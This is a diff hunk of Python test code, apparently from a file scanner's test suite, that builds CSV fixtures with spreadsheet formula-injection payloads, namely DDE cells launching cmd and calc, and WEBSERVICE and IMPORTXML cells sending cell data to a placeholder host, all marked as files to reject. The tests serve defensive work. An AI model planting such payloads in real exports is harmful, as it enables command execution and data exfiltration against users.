@@ -159,7 +159,7 @@ def dde():
              rule, 77, "the DDE function in ODF")
     for name, text in {"equals": "Name;Punkte\r\n=cmd|' /C calc'!A0;3\r\n", "plus": "a;b\r\n+cmd|' /C calc'!A0;1\r\n", "minus": "-cmd|'/c calc'!A1,2\r\n", "at": "@SUM(1+1)*cmd|' /C calc'!A0\r\n",
                        "quoted": "\"=cmd|' /C calc'!A0\";1\r\n", "tab": "a\t=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A\r\n", "blank": "a; =cmd|'/c calc'!A0\r\n",
-                       "hyperlink": '=HYPERLINK("http://boese.example/?"&A1;"Hier klicken");1\r\n', "webservice": '=WEBSERVICE("http://boese.example/"&A1),1\r\n', "importxml": '=IMPORTXML("http://boese.example/";"//a")\r\n'}.items():
+                       "webservice": '=WEBSERVICE("http://boese.example/"&A1),1\r\n', "importxml": '=IMPORTXML("http://boese.example/";"//a")\r\n'}.items():
         bad_file(f"csv-{name}.csv", text.encode(), rule + " | remote", 77, "a cell that starts or fetches something")
     bad_file("csv-utf16.csv", "Name;Punkte\r\n=cmd|' /C calc'!A0;3\r\n".encode("utf-16"), rule, 77, "a cell that starts something, in UTF-16")
 
